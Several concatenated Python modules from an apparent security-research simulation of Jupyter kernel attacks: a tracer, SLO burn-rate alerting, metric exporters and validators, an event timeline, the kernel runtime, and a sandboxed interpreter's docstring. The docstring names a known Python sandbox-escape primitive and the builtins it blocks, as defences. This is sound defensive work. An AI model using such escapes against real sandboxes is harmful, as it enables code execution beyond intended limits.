long fleet runs keep the most recent ``capacity`` spans, and
:attr:`Tracer.dropped` says how many fell off the back.
"""

from __future__ import annotations

from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional

from repro.util.ids import IdSequence

__all__ = ["TraceContext", "Span", "Tracer", "NULL_SPAN"]


@dataclass(frozen=True)
class TraceContext:
    """The propagated identity of one causal chain member."""

    trace_id: str = ""
    span_id: str = ""

    def __bool__(self) -> bool:
        return bool(self.span_id)


EMPTY_CONTEXT = TraceContext()


@dataclass(slots=True)
class Span:
    """One recorded operation inside a trace."""

    trace_id: str
    span_id: str
    parent_id: str
    name: str
    start: float
    end: Optional[float] = None
    status: str = "ok"
    attrs: Dict[str, object] = field(default_factory=dict)

    @property
    def ctx(self) -> TraceContext:
        return TraceContext(self.trace_id, self.span_id)

    def finish(self, ts: Optional[float] = None, *, status: str = "ok") -> None:
        self.end = ts if ts is not None else self.start
        self.status = status

    def set_attrs(self, **kv: object) -> None:
        self.attrs.update(kv)

    def to_dict(self) -> Dict[str, object]:
        return {
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "start": self.start,
            "end": self.end,
            "status": self.status,
            "attrs": dict(self.attrs),
        }


class _NullSpan:
    """Returned by a disabled tracer; absorbs the whole Span API."""

    __slots__ = ()
    ctx = EMPTY_CONTEXT
    trace_id = ""
    span_id = ""
    parent_id = ""

    def finish(self, ts: Optional[float] = None, *, status: str = "ok") -> None:
        pass

    def set_attrs(self, **kv: object) -> None:
        pass


NULL_SPAN = _NullSpan()


class Tracer:
    """Bounded span store plus the request-id binding table.

    ``bind``/``resolve`` is the cross-component join: the proxy binds
    the request id it stamped on the rewritten backend request, and the
    monitor — a separate component observing bytes on a tap — resolves
    the same id back to a live context.  Bindings are bounded the same
    way spans are.
    """

    def __init__(self, *, enabled: bool = True, capacity: int = 8192,
                 binding_capacity: int = 4096) -> None:
        self.enabled = enabled
        self.capacity = capacity
        self.binding_capacity = binding_capacity
        self.dropped = 0
        self._spans: "OrderedDict[str, Span]" = OrderedDict()
        self._bindings: "OrderedDict[str, TraceContext]" = OrderedDict()
        self._ids = IdSequence("S")
        self._trace_ids = IdSequence("T")

    # -- spans --------------------------------------------------------

    def start_span(self, name: str, *, parent: Optional[TraceContext] = None,
                   ts: float = 0.0, **attrs: object):
        """Open (and store) a span.  With a live ``parent`` the span
        joins that trace; otherwise it roots a new one."""
        if not self.enabled:
            return NULL_SPAN
        span_id = self._ids.next()
        if parent is not None and parent.span_id:
            trace_id, parent_id = parent.trace_id, parent.span_id
        else:
            trace_id, parent_id = self._trace_ids.next(), ""
        span = Span(trace_id=trace_id, span_id=span_id, parent_id=parent_id,
                    name=name, start=ts, attrs=dict(attrs))
        self._spans[span_id] = span
        if len(self._spans) > self.capacity:
            self._spans.popitem(last=False)
            self.dropped += 1
        return span

    def get(self, span_id: str) -> Optional[Span]:
        return self._spans.get(span_id)

    def spans(self) -> List[Span]:
        return list(self._spans.values())

    def children(self, span_id: str) -> List[Span]:
        return [s for s in self._spans.values() if s.parent_id == span_id]

    def chain(self, span_id: str) -> List[Span]:
        """Walk parent links from ``span_id`` to its root; returns the
        chain root-first.  Stops cleanly at evicted ancestors."""
        out: List[Span] = []
        seen: set = set()
        cur = self._spans.get(span_id)
        while cur is not None and cur.span_id not in seen:
            seen.add(cur.span_id)
            out.append(cur)
            cur = self._spans.get(cur.parent_id) if cur.parent_id else None
        out.reverse()
        return out

    def trace(self, trace_id: str) -> List[Span]:
        """Every retained span of one trace, in start order."""
        return sorted((s for s in self._spans.values()
                       if s.trace_id == trace_id),
                      key=lambda s: (s.start, s.span_id))

    # -- request-id bindings ------------------------------------------

    def bind(self, key: str, ctx: TraceContext) -> None:
        """Associate an externally visible id (e.g. an ``X-Request-Id``
        header value) with a context, for later :meth:`resolve`."""
        if not self.enabled or not key:
            return
        self._bindings[key] = ctx
        self._bindings.move_to_end(key)
        if len(self._bindings) > self.binding_capacity:
            self._bindings.popitem(last=False)

    def resolve(self, key: str) -> Optional[TraceContext]:
        return self._bindings.get(key)

    # -- export -------------------------------------------------------

    def to_dicts(self) -> Iterable[Dict[str, object]]:
        for span in self._spans.values():
            yield span.to_dict()
