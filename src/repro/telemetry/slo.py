"""Declarative SLOs with multi-window burn-rate alerting.

An :class:`SloSpec` states an objective over a stream of good/bad
events ("99% of proxied requests complete within 250 ms"); the
:class:`SloEvaluator` turns the world's own metric families into those
event streams and evaluates them the way production alerting does —
**burn rate**, not raw error rate:

    error_budget = 1 - objective
    burn         = error_rate_over_window / error_budget

A burn of 1.0 spends the budget exactly at the sustainable pace; a burn
of ``burn_threshold`` (default 2.0) spends it twice as fast.  Alerting
requires the threshold to be exceeded in **both** a fast and a slow
window: the fast window makes the alert responsive, the slow window
stops a single bad poll from paging.  Until a window has history (cold
start), its baseline degrades to the run start, i.e. the burn is
computed over the full history so far — a world that starts on fire
alerts on the second poll rather than waiting out the window.

The evaluator is a pure telemetry consumer: it reads the registry and
the incident list, draws no randomness, and mints no ids.  Its output
is ordinary :class:`~repro.monitor.logs.Notice` objects named
``SLO_BURN`` with ``src="slo:<name>"`` — fed through the
:class:`AlertCorrelator` they become incidents that playbooks can act
on, which is how telemetry closes the loop back into the SOC
(``shed-padding-on-burn`` relaxing the padding policy is the shipped
example).

Three kinds cover the spec'd objectives:

- ``latency``: good = observations with value ≤ ``target`` in histogram
  ``family`` (``target`` must be one of the family's bucket bounds —
  the fixed-bucket counters are exact there).
- ``drop_ratio``: good/bad from a pair of counter families
  (monitor segments seen vs dropped — the throughput floor).
- ``action_lead``: good = contained incidents whose first successful
  action landed within ``target`` seconds of the incident opening —
  the paper's detection-lead-time metric as an SLO.
"""

from __future__ import annotations

import bisect
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

__all__ = ["SloSpec", "SloEvaluator", "DEFAULT_SLOS", "SHAPING_DELAY_SLO",
           "burn_rate"]

_KINDS = ("latency", "drop_ratio", "action_lead")


def burn_rate(good: float, bad: float, objective: float) -> float:
    """Budget-relative error rate: 1.0 == spending the error budget
    exactly at the sustainable pace."""
    total = good + bad
    if total <= 0:
        return 0.0
    return (bad / total) / (1.0 - objective)


@dataclass(frozen=True)
class SloSpec:
    """One declarative objective, carried on :class:`WorldSpec`."""

    name: str
    kind: str
    objective: float = 0.99
    #: Histogram family for ``latency`` kind.
    family: str = ""
    #: ``latency``: the le bound (seconds); ``action_lead``: max lead (s).
    target: float = 0.25
    #: Counter families for ``drop_ratio`` kind.
    good_family: str = ""
    bad_family: str = ""
    fast_window: float = 20.0
    slow_window: float = 120.0
    burn_threshold: float = 2.0
    #: Minimum seconds between SLO_BURN notices for this SLO.
    renotify: float = 60.0

    def __post_init__(self) -> None:
        if self.kind not in _KINDS:
            raise ValueError(f"SloSpec.kind must be one of {_KINDS}, "
                             f"got {self.kind!r}")
        if not (0.0 < self.objective < 1.0):
            raise ValueError(f"SloSpec.objective must be in (0, 1), "
                             f"got {self.objective}")
        if not (0.0 < self.fast_window <= self.slow_window):
            raise ValueError(
                f"SloSpec windows must satisfy 0 < fast <= slow, got "
                f"fast={self.fast_window} slow={self.slow_window}")
        if self.burn_threshold <= 0.0:
            raise ValueError(f"SloSpec.burn_threshold must be > 0, "
                             f"got {self.burn_threshold}")
        if self.kind == "latency" and not self.family:
            raise ValueError("latency SloSpec needs a histogram family")
        if self.kind == "drop_ratio" and not (self.good_family
                                              and self.bad_family):
            raise ValueError("drop_ratio SloSpec needs good/bad families")
        if self.kind in ("latency", "action_lead") and self.target <= 0.0:
            raise ValueError(f"SloSpec.target must be > 0, got {self.target}")


#: The spec'd fleet objectives: front-door latency, monitor throughput
#: floor, and the paper's detection-lead-time metric as an SLO.
DEFAULT_SLOS: Tuple[SloSpec, ...] = (
    SloSpec(name="proxy-latency", kind="latency",
            family="proxy_request_seconds", target=0.25, objective=0.99),
    SloSpec(name="monitor-throughput", kind="drop_ratio",
            good_family="monitor_segments_total",
            bad_family="monitor_segments_dropped_total", objective=0.999),
    SloSpec(name="containment-lead", kind="action_lead",
            target=60.0, objective=0.90),
)

#: The shaping-cost objective: 90% of responses leave within 250 ms of
#: being ready.  A padded world (max_jitter 0.7 ⇒ ~64% of draws over
#: 250 ms) burns this budget ~6× — the canonical trigger for
#: ``shed-padding-on-burn``.
SHAPING_DELAY_SLO = SloSpec(
    name="shaping-delay", kind="latency",
    family="proxy_response_delay_seconds", target=0.25, objective=0.90,
    fast_window=20.0, slow_window=60.0, burn_threshold=2.0, renotify=60.0)


class _SloState:
    __slots__ = ("snapshots", "last_fired", "last_fast", "last_slow",
                 "burns")

    def __init__(self) -> None:
        #: (ts, good, bad) cumulative snapshots, oldest first.
        self.snapshots: List[Tuple[float, float, float]] = []
        self.last_fired = -1e18
        self.last_fast = 0.0
        self.last_slow = 0.0
        self.burns = 0


class SloEvaluator:
    """Polls metric families, tracks burn windows, emits SLO_BURN."""

    def __init__(self, specs, registry,
                 incidents: Optional[Callable[[], list]] = None) -> None:
        self.specs = tuple(specs)
        self.registry = registry
        self._incidents = incidents
        self._state: Dict[str, _SloState] = {s.name: _SloState()
                                             for s in self.specs}
        self.evaluations = 0
        self.notices_emitted = 0

    def attach_incidents(self, fn: Callable[[], list]) -> None:
        """Give the ``action_lead`` kind its incident source (the
        correlator's incident list)."""
        self._incidents = fn

    # -- cumulative good/bad extraction -------------------------------

    def _counts(self, spec: SloSpec) -> Tuple[float, float]:
        if spec.kind == "latency":
            return self._latency_counts(spec)
        if spec.kind == "drop_ratio":
            return self._ratio_counts(spec)
        return self._lead_counts(spec)

    def _latency_counts(self, spec: SloSpec) -> Tuple[float, float]:
        family = self.registry.get(spec.family)
        if family is None:
            return 0.0, 0.0
        good = bad = 0
        for child in family._children.values():
            if spec.target not in child.buckets:
                raise ValueError(
                    f"SLO {spec.name!r}: target {spec.target} is not a "
                    f"bucket bound of {spec.family!r} {child.buckets} — "
                    f"latency SLOs are exact only at declared bounds")
            upto = bisect.bisect_right(child.buckets, spec.target)
            ok = sum(child.counts[:upto])
            good += ok
            bad += child.count - ok
        return float(good), float(bad)

    def _ratio_counts(self, spec: SloSpec) -> Tuple[float, float]:
        def total(name: str) -> float:
            family = self.registry.get(name)
            if family is None:
                return 0.0
            return sum(c.value for c in family._children.values())

        good = total(spec.good_family)
        bad = total(spec.bad_family)
        return good, bad

    def _lead_counts(self, spec: SloSpec) -> Tuple[float, float]:
        if self._incidents is None:
            return 0.0, 0.0
        good = bad = 0
        for incident in self._incidents():
            first_ok = min((a.ts for a in incident.actions
                            if a.ok and not a.dry_run), default=None)
            if first_ok is None:
                continue
            if first_ok - incident.opened <= spec.target:
                good += 1
            else:
                bad += 1
        return float(good), float(bad)

    # -- burn windows -------------------------------------------------

    @staticmethod
    def _window_burn(state: _SloState, now: float, window: float,
                     good: float, bad: float, objective: float) -> float:
        """Burn over ``[now - window, now]``: baseline is the newest
        snapshot at or before the window start, else run start (0, 0)."""
        base_good = base_bad = 0.0
        cutoff = now - window
        for ts, g, b in reversed(state.snapshots):
            if ts <= cutoff:
                base_good, base_bad = g, b
                break
        return burn_rate(good - base_good, bad - base_bad, objective)

    def evaluate(self, now: float) -> list:
        """One poll: snapshot every SLO's counters, compute fast/slow
        burns, and return SLO_BURN notices for those over threshold in
        both windows (renotify-limited)."""
        # Deferred import: repro.monitor pulls in repro.telemetry, so a
        # top-level import here would cycle during package init.
        from repro.monitor.logs import Notice

        self.evaluations += 1
        self.registry.collect()  # run scrape-time collectors first
        out: List[Notice] = []
        for spec in self.specs:
            state = self._state[spec.name]
            good, bad = self._counts(spec)
            fast = self._window_burn(state, now, spec.fast_window,
                                     good, bad, spec.objective)
            slow = self._window_burn(state, now, spec.slow_window,
                                     good, bad, spec.objective)
            state.snapshots.append((now, good, bad))
            # Prune history older than anything a slow window can need.
            horizon = now - 2.0 * spec.slow_window
            while len(state.snapshots) > 2 and state.snapshots[1][0] <= horizon:
                state.snapshots.pop(0)
            state.last_fast, state.last_slow = fast, slow
            if (fast >= spec.burn_threshold and slow >= spec.burn_threshold
                    and now - state.last_fired >= spec.renotify):
                state.last_fired = now
                state.burns += 1
                self.notices_emitted += 1
                out.append(Notice(
                    ts=now, detector="slo", name="SLO_BURN",
                    severity="high", src=f"slo:{spec.name}", dst="",
                    detail={
                        "slo": spec.name, "kind": spec.kind,
                        "objective": spec.objective,
                        "fast_burn": round(fast, 3),
                        "slow_burn": round(slow, 3),
                        "threshold": spec.burn_threshold,
                        "tenant": "-",
                    }))
        return out

    def report(self) -> List[Dict[str, object]]:
        """Per-SLO status rows for the CLI."""
        rows: List[Dict[str, object]] = []
        for spec in self.specs:
            state = self._state[spec.name]
            good, bad = (state.snapshots[-1][1:] if state.snapshots
                         else (0.0, 0.0))
            rows.append({
                "slo": spec.name, "kind": spec.kind,
                "objective": spec.objective,
                "good": good, "bad": bad,
                "fast_burn": round(state.last_fast, 3),
                "slow_burn": round(state.last_slow, 3),
                "burns": state.burns,
            })
        return rows
