"""Telemetry exporters: Prometheus-style text and JSONL.

Both formats are line-oriented on purpose — ``repro obs`` streams them
to stdout and the CI smoke job validates them with the paired
``validate_*`` functions, which return a list of human-readable
problems (empty list == valid).  Keeping renderer and validator in one
module means the schema cannot drift silently: the smoke job fails the
moment an exporter and its contract disagree.
"""

from __future__ import annotations

import json
from typing import Dict, List

from repro.telemetry.registry import MetricsRegistry
from repro.telemetry.timeline import EventTimeline

__all__ = [
    "render_prometheus",
    "render_metrics_jsonl",
    "render_timeline_jsonl",
    "validate_prometheus",
    "validate_jsonl",
    "validate_schema_version",
    "SCHEMA_VERSION",
    "TIMELINE_REQUIRED_KEYS",
]

#: Version stamped into every JSONL export's header line and into
#: benchmark report payloads (BENCH_OBS.json).  Bump on any breaking
#: change to record shapes; validators hard-reject anything else.
SCHEMA_VERSION = 1

#: Keys every timeline JSONL record must carry.
TIMELINE_REQUIRED_KEYS = ("ts", "kind", "source", "trace_id", "span_id",
                          "seq", "detail")


def _escape_label(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def render_prometheus(registry: MetricsRegistry) -> str:
    """Prometheus text exposition format (# HELP / # TYPE / samples)."""
    registry.collect()
    lines: List[str] = []
    for family in registry.families():
        lines.append(f"# HELP {family.name} {family.help or family.name}")
        lines.append(f"# TYPE {family.name} {family.type}")
        for sample in family.samples():
            if sample.labels:
                labels = ",".join(
                    f'{k}="{_escape_label(v)}"' for k, v in sample.labels)
                lines.append(f"{sample.name}{{{labels}}} {_num(sample.value)}")
            else:
                lines.append(f"{sample.name} {_num(sample.value)}")
    return "\n".join(lines) + ("\n" if lines else "")


def _num(v: float) -> str:
    return repr(int(v)) if float(v).is_integer() else repr(v)


def _header(kind: str) -> str:
    return json.dumps({"kind": kind, "schema_version": SCHEMA_VERSION},
                      sort_keys=True)


def render_metrics_jsonl(registry: MetricsRegistry) -> str:
    """A ``schema_version`` header line, then one JSON object per
    sample: ``{"name":..., "labels":..., "value":...}``."""
    lines = [_header("metrics")] + [
        json.dumps({"name": s.name, "labels": dict(s.labels), "value": s.value},
                   sort_keys=True)
        for s in registry.collect()
    ]
    return "\n".join(lines) + "\n"


def render_timeline_jsonl(timeline: EventTimeline) -> str:
    """A ``schema_version`` header line, then one JSON object per
    timeline event, oldest first."""
    lines = [_header("timeline")] + [
        json.dumps(e, sort_keys=True) for e in timeline.to_dicts()]
    return "\n".join(lines) + "\n"


# -- validators (used by `repro obs --smoke` and the CI obs-smoke job) --

def validate_prometheus(text: str) -> List[str]:
    """Check Prometheus text output; returns a list of problems."""
    problems: List[str] = []
    typed: Dict[str, str] = {}
    for i, line in enumerate(text.splitlines(), 1):
        if not line.strip():
            continue
        if line.startswith("# HELP "):
            continue
        if line.startswith("# TYPE "):
            parts = line.split()
            if len(parts) != 4 or parts[3] not in ("counter", "gauge", "histogram"):
                problems.append(f"line {i}: malformed TYPE line: {line!r}")
            else:
                typed[parts[2]] = parts[3]
            continue
        if line.startswith("#"):
            problems.append(f"line {i}: unknown comment form: {line!r}")
            continue
        # sample line: name{labels} value  |  name value
        head, _, value = line.rpartition(" ")
        if not head:
            problems.append(f"line {i}: no value separator: {line!r}")
            continue
        try:
            float(value)
        except ValueError:
            problems.append(f"line {i}: non-numeric value {value!r}")
        name = head.split("{", 1)[0]
        base = name
        for suffix in ("_bucket", "_sum", "_count"):
            if name.endswith(suffix) and name[: -len(suffix)] in typed:
                base = name[: -len(suffix)]
                break
        if base not in typed:
            problems.append(f"line {i}: sample {name!r} missing TYPE declaration")
        if "{" in head and not head.endswith("}"):
            problems.append(f"line {i}: unterminated label set: {line!r}")
    return problems


def validate_schema_version(obj: Dict[str, object],
                            where: str = "export") -> List[str]:
    """Check one record/payload's ``schema_version``; unknown versions
    are rejected with an actionable message, never coerced."""
    version = obj.get("schema_version")
    if version is None:
        return [f"{where}: missing schema_version "
                f"(this reader requires version {SCHEMA_VERSION})"]
    if version != SCHEMA_VERSION:
        return [f"{where}: unsupported schema_version {version!r} "
                f"(this reader understands version {SCHEMA_VERSION}; "
                f"re-export with a matching writer)"]
    return []


def validate_jsonl(text: str, required_keys=()) -> List[str]:
    """Check that the first line is a ``schema_version`` header this
    reader understands and every further non-empty line is a JSON
    object carrying ``required_keys``; returns a list of problems."""
    problems: List[str] = []
    saw_header = False
    for i, line in enumerate(text.splitlines(), 1):
        if not line.strip():
            continue
        try:
            obj = json.loads(line)
        except json.JSONDecodeError as exc:
            problems.append(f"line {i}: invalid JSON ({exc})")
            continue
        if not isinstance(obj, dict):
            problems.append(f"line {i}: expected object, got {type(obj).__name__}")
            continue
        if not saw_header:
            saw_header = True
            problems.extend(validate_schema_version(obj, where=f"line {i}"))
            continue
        missing = [k for k in required_keys if k not in obj]
        if missing:
            problems.append(f"line {i}: missing keys {missing}")
    return problems
