"""Bounded event timeline with monotonic sim-clock timestamps.

The timeline is the narrative complement to the metrics registry: where
a counter says *how many* requests were blocked, the timeline says
*which* ones, *when*, and — via the optional trace context stamped on
each event — *why*.  It is a ring buffer (``deque(maxlen=...)``) so a
week-long fleet run cannot grow it without bound; ``dropped`` counts
what fell off the back, because a forensics tool must know whether it
is looking at the whole story or a suffix.

All builds of one world share a single timeline, so the fleet view is
free: a sharded hub's proxies, monitors, and SOC all append to the same
ring in sim-time order.  :func:`merge_timelines` exists for the
multi-world case (A/B duels, tournament brackets).
"""

from __future__ import annotations

from collections import deque
from typing import Deque, Dict, Iterable, List, Optional, Sequence

from repro.telemetry.trace import TraceContext

__all__ = ["TimelineEvent", "EventTimeline", "merge_timelines"]


class TimelineEvent:
    """One timestamped fact.  ``kind`` is dotted ``layer.what``
    (``proxy.blocked``, ``detector.notice``, ``soc.action``...).

    ``seq`` is the recording timeline's event ordinal — the tie-break
    that keeps cross-timeline merges byte-deterministic when several
    shards stamp identical sim-times (common: simultaneous deliveries
    share a tick)."""

    __slots__ = ("ts", "kind", "source", "trace_id", "span_id", "detail",
                 "seq")

    def __init__(self, ts: float, kind: str, source: str = "",
                 trace_id: str = "", span_id: str = "",
                 detail: Optional[Dict[str, object]] = None,
                 seq: int = 0) -> None:
        self.ts = ts
        self.kind = kind
        self.source = source
        self.trace_id = trace_id
        self.span_id = span_id
        self.detail = detail if detail is not None else {}
        self.seq = seq

    def to_dict(self) -> Dict[str, object]:
        return {
            "ts": self.ts,
            "kind": self.kind,
            "source": self.source,
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "seq": self.seq,
            "detail": dict(self.detail),
        }

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"TimelineEvent({self.ts:.3f}s {self.kind} src={self.source!r})"


class EventTimeline:
    """Ring buffer of :class:`TimelineEvent`, oldest evicted first."""

    def __init__(self, *, enabled: bool = True, capacity: int = 4096) -> None:
        self.enabled = enabled
        self.capacity = capacity
        self.total_recorded = 0
        self._events: Deque[TimelineEvent] = deque(maxlen=capacity)

    def record(self, ts: float, kind: str, *, source: str = "",
               ctx: Optional[TraceContext] = None, **detail: object) -> None:
        if not self.enabled:
            return
        self.total_recorded += 1
        self._events.append(TimelineEvent(
            ts, kind, source,
            ctx.trace_id if ctx is not None else "",
            ctx.span_id if ctx is not None else "",
            detail or None,
            seq=self.total_recorded))

    @property
    def dropped(self) -> int:
        """Events evicted from the ring so far."""
        return self.total_recorded - len(self._events)

    def __len__(self) -> int:
        return len(self._events)

    def events(self, kinds: Optional[Sequence[str]] = None,
               *, source: Optional[str] = None,
               trace_id: Optional[str] = None) -> List[TimelineEvent]:
        """Snapshot, optionally filtered by kind prefix / source / trace."""
        out: Iterable[TimelineEvent] = list(self._events)
        if kinds is not None:
            wanted = tuple(kinds)
            out = [e for e in out if e.kind.startswith(wanted)]
        if source is not None:
            out = [e for e in out if e.source == source]
        if trace_id is not None:
            out = [e for e in out if e.trace_id == trace_id]
        return list(out)

    def to_dicts(self) -> List[Dict[str, object]]:
        return [e.to_dict() for e in self._events]


def merge_timelines(*timelines: EventTimeline) -> List[TimelineEvent]:
    """Merge several timelines into one sim-time-ordered list.

    The key is ``(ts, source, seq)``: equal sim-times (common across
    shards — simultaneous deliveries share a tick) order by source then
    by each timeline's own record ordinal, so a merged fleet timeline
    is byte-deterministic regardless of which shard's ring is passed
    first.  The sort is stable, so events identical on the full key
    (same source, same seq, e.g. from distinct worlds' timelines) still
    keep their per-timeline relative order.
    """
    merged: List[TimelineEvent] = []
    for tl in timelines:
        merged.extend(tl.events())
    merged.sort(key=lambda e: (e.ts, e.source, e.seq))
    return merged
