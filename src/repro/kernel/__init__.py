"""The simulated Jupyter kernel.

A real REPL: code cells are parsed with CPython's ``ast`` module and
executed by :class:`~repro.kernel.interp.MiniPython`, a metered
interpreter over a safe language subset.  The kernel world binds the
interpreter's ``os``/``socket``/``requests``/``hashlib`` modules to the
simulation (virtual filesystem, simnet hosts), so attacks written as
notebook code have *observable side effects* — files change, traffic
flows — which is precisely what the paper's monitor and auditor look at.

Layers:

- :mod:`repro.kernel.interp` — the interpreter (op budget, allowlisted
  builtins, no dunder access).
- :mod:`repro.kernel.world` — :class:`KernelWorld`: fs/network/clock
  bindings plus the syscall-style event stream the auditor subscribes to.
- :mod:`repro.kernel.modules` — the simulated importable modules.
- :mod:`repro.kernel.runtime` — :class:`KernelRuntime`: wire-protocol
  REPL (status busy/idle, execute_input, stream, execute_result, error).
- :mod:`repro.kernel.manager` — lifecycle (start/interrupt/restart/
  shutdown, heartbeat).
"""

from repro.kernel.interp import ExecOutcome, MiniPython
from repro.kernel.manager import KernelManager
from repro.kernel.runtime import KernelRuntime
from repro.kernel.world import KernelEvent, KernelWorld, ResourceMeter

__all__ = [
    "MiniPython",
    "ExecOutcome",
    "KernelWorld",
    "KernelEvent",
    "ResourceMeter",
    "KernelRuntime",
    "KernelManager",
]
