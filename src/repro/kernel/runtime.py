"""Kernel runtime: the REPL half of the two-process model (paper Fig. 2).

Receives ``execute_request``/``kernel_info_request``/``shutdown_request``
messages, runs code through :class:`~repro.kernel.interp.MiniPython`, and
publishes the canonical iopub sequence::

    status:busy -> execute_input -> stream*/execute_result|error -> status:idle

Replies and broadcasts are returned to the caller (the kernel gateway),
which handles transport — the runtime itself is transport-agnostic so it
can sit behind ZMTP ports, a WebSocket bridge, or a direct in-process
harness (as the audit benchmarks do).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.kernel.interp import MiniPython
from repro.kernel.world import KernelWorld
from repro.messaging import Channel, Message, Session
from repro.util.ids import new_id

PROTOCOL_VERSION = "5.3"


@dataclass
class ExecutionRecord:
    """Audit-grade record of one cell execution."""

    execution_count: int
    code: str
    status: str
    started: float
    duration: float
    resources: Dict[str, float] = field(default_factory=dict)
    ename: str = ""


class KernelRuntime:
    """A live kernel instance."""

    banner = "MiniPython 1.0 (simulated Jupyter kernel, repro of arXiv:2409.19456)"
    implementation = "minipython"
    language = "python"

    def __init__(
        self,
        world: Optional[KernelWorld] = None,
        *,
        key: bytes = b"",
        signer=None,
        kernel_id: Optional[str] = None,
        max_ops: int = 50_000_000,
    ):
        self.kernel_id = kernel_id or new_id("kernel-")[:16]
        self.world = world or KernelWorld()
        self.session = Session(key, signer=signer, username="kernel", clock=self.world.clock,
                               check_replay=False)
        self.interp = MiniPython(self.world, max_ops=max_ops)
        self.execution_count = 0
        self.state = "idle"  # idle | busy | dead
        #: username from the most recent execute_request header — the
        #: principal the auditor attributes activity to.
        self.current_username = ""
        self.history: List[ExecutionRecord] = []
        self.interrupted = False
        #: called with each iopub Message (the gateway broadcasts them)
        self.iopub_listeners: List[Callable[[Message], None]] = []
        #: pre-execute hooks (the audit layer registers policy checks here)
        self.pre_execute_hooks = self.interp.pre_execute_hooks

    # -- iopub ------------------------------------------------------------------
    def _publish(self, msg_type: str, content: dict, parent: Optional[Message]) -> Message:
        msg = self.session.msg(msg_type, content, parent=parent, channel=Channel.IOPUB)
        for listener in self.iopub_listeners:
            listener(msg)
        return msg

    # -- request dispatch ----------------------------------------------------------
    def handle(self, request: Message) -> List[Message]:
        """Process one shell/control message; returns [reply, *iopub]."""
        handler = getattr(self, f"_handle_{request.msg_type}", None)
        if handler is None:
            reply = self.session.msg(
                request.msg_type.replace("_request", "_reply"),
                {"status": "error", "ename": "UnknownMessage", "evalue": request.msg_type},
                parent=request,
            )
            return [reply]
        return handler(request)

    def _handle_kernel_info_request(self, request: Message) -> List[Message]:
        reply = self.session.msg(
            "kernel_info_reply",
            {
                "status": "ok",
                "protocol_version": PROTOCOL_VERSION,
                "implementation": self.implementation,
                "implementation_version": "1.0",
                "language_info": {"name": self.language, "version": "3.11", "mimetype": "text/x-python"},
                "banner": self.banner,
            },
            parent=request,
            channel=Channel.SHELL,
        )
        return [reply]

    def _handle_execute_request(self, request: Message) -> List[Message]:
        code = str(request.content.get("code", ""))
        silent = bool(request.content.get("silent", False))
        self.current_username = request.header.username
        out: List[Message] = []
        self.state = "busy"
        out.append(self._publish("status", {"execution_state": "busy"}, request))
        if not silent:
            self.execution_count += 1
            out.append(
                self._publish(
                    "execute_input",
                    {"code": code, "execution_count": self.execution_count},
                    request,
                )
            )
        started = self.world.clock.now()
        outcome = self.interp.execute(code)
        duration = outcome.meter.duration_seconds if outcome.meter else 0.0
        self.history.append(
            ExecutionRecord(
                execution_count=self.execution_count,
                code=code,
                status=outcome.status,
                started=started,
                duration=duration,
                resources=outcome.meter.snapshot() if outcome.meter else {},
                ename=outcome.ename,
            )
        )
        if outcome.stdout:
            out.append(self._publish("stream", {"name": "stdout", "text": outcome.stdout}, request))
        if outcome.stderr:
            out.append(self._publish("stream", {"name": "stderr", "text": outcome.stderr}, request))
        if outcome.status == "ok":
            if outcome.result is not None and not silent:
                out.append(
                    self._publish(
                        "execute_result",
                        {
                            "data": {"text/plain": repr(outcome.result)},
                            "metadata": {},
                            "execution_count": self.execution_count,
                        },
                        request,
                    )
                )
            reply_content = {
                "status": "ok",
                "execution_count": self.execution_count,
                "user_expressions": {},
            }
        else:
            out.append(
                self._publish(
                    "error",
                    {"ename": outcome.ename, "evalue": outcome.evalue, "traceback": outcome.traceback},
                    request,
                )
            )
            reply_content = {
                "status": "error",
                "execution_count": self.execution_count,
                "ename": outcome.ename,
                "evalue": outcome.evalue,
                "traceback": outcome.traceback,
            }
        self.state = "idle"
        out.append(self._publish("status", {"execution_state": "idle"}, request))
        reply = self.session.msg("execute_reply", reply_content, parent=request, channel=Channel.SHELL)
        # Reply goes first by convention of our gateway (index 0 = reply).
        return [reply, *out]

    def _handle_shutdown_request(self, request: Message) -> List[Message]:
        restart = bool(request.content.get("restart", False))
        self.state = "dead"
        reply = self.session.msg(
            "shutdown_reply", {"status": "ok", "restart": restart}, parent=request, channel=Channel.CONTROL
        )
        return [reply]

    def _handle_interrupt_request(self, request: Message) -> List[Message]:
        self.interrupted = True
        self.state = "idle"
        reply = self.session.msg("interrupt_reply", {"status": "ok"}, parent=request, channel=Channel.CONTROL)
        return [reply]

    # -- heartbeat ------------------------------------------------------------------
    def heartbeat(self, payload: bytes) -> bytes:
        """The hb channel echoes whatever it receives — unless dead."""
        if self.state == "dead":
            raise RuntimeError("kernel is dead")
        return payload

    # -- accounting -------------------------------------------------------------------
    def total_cpu_seconds(self) -> float:
        return sum(r.resources.get("cpu_seconds", 0.0) for r in self.history)

    def total_net_bytes(self) -> int:
        return int(
            sum(
                r.resources.get("net_bytes_sent", 0) + r.resources.get("net_bytes_received", 0)
                for r in self.history
            )
        )
