"""MiniPython: a metered AST interpreter over a safe Python subset.

The kernel cannot ``exec`` untrusted cells against the host interpreter
(that would hand the test suite's process to simulated attackers), so it
interprets CPython's parse tree directly.  The subset covers what real
scientific and attack notebooks in the paper's taxonomy use:

- expressions: arithmetic/boolean/comparison operators, calls,
  subscripts, slices, attribute access (public attributes only),
  f-strings, lambdas, comprehensions, conditional expressions;
- statements: assignment (incl. tuple unpacking and augmented forms),
  ``if``/``while``/``for``, function definitions with defaults and
  closures, ``try``/``except``/``finally``, ``raise``, ``assert``,
  ``import``/``from-import`` (resolved against the world's module
  registry), ``del``, ``global``, ``break``/``continue``/``pass``.

Three hard security properties, each tested:

1. **No dunder access.** Attribute names beginning with ``_`` raise
   ``SecurityViolation`` — closing the classic ``().__class__`` escape.
2. **Allowlisted builtins only.** No ``eval``/``exec``/``getattr``/
   ``open`` (the world supplies its own audited ``open``).
3. **Metered execution.** Every node visit ticks the
   :class:`~repro.kernel.world.ResourceMeter`; infinite loops hit the op
   budget and die with ``ResourceLimitError``.
"""

from __future__ import annotations

import ast
import operator
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Tuple

